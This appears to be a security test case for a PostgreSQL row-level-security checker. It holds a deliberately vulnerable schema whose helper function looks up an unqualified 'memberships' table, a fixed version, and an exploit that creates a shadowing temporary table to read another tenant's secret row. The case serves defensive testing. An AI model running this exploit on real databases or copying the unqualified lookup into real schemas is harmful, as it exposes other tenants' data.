-- What: The helper names its lookup table without a schema. A temporary table of that name is found first, whatever the search path is.
-- Class: policy_lookup_writable|function_search_path
-- Object: public.files | public.my_tenants
-- Exploit: CREATE TEMPORARY TABLE memberships, in which the own user is a member of tenant B.
-- Setting: app.user_id
-- Config: fixtures = { ["public.memberships"] = "insert into public.memberships (user_id, tenant_id) values ({tenant}, {tenant})" }
-- @schema
create table memberships (user_id uuid not null, tenant_id uuid not null, primary key (user_id, tenant_id));
create function my_tenants() returns setof uuid language plpgsql stable as $$
begin
  return query select m.tenant_id from memberships m where m.user_id = nullif(current_setting('app.user_id', true), '')::uuid;
end $$;
create table files (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table memberships enable row level security;
alter table memberships force row level security;
create policy own on memberships for select using (user_id = nullif(current_setting('app.user_id', true), '')::uuid);
alter table files enable row level security;
alter table files force row level security;
create policy tenant on files using (tenant_id in (select my_tenants()));
grant select on memberships to app_user;
grant select, insert, update, delete on files to app_user;
-- @rows
insert into memberships values (:'A', :'A'), (:'B', :'B');
insert into files (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
create or replace function my_tenants() returns setof uuid language sql stable as $$
  select m.tenant_id from public.memberships m where m.user_id = nullif(current_setting('app.user_id', true), '')::uuid $$;
-- @control
select from files where tenant_id = :'A';
-- @exploit
create temporary table memberships (user_id uuid, tenant_id uuid);
insert into memberships values (:'A', :'B');
select body from files where body = 'B-secret';
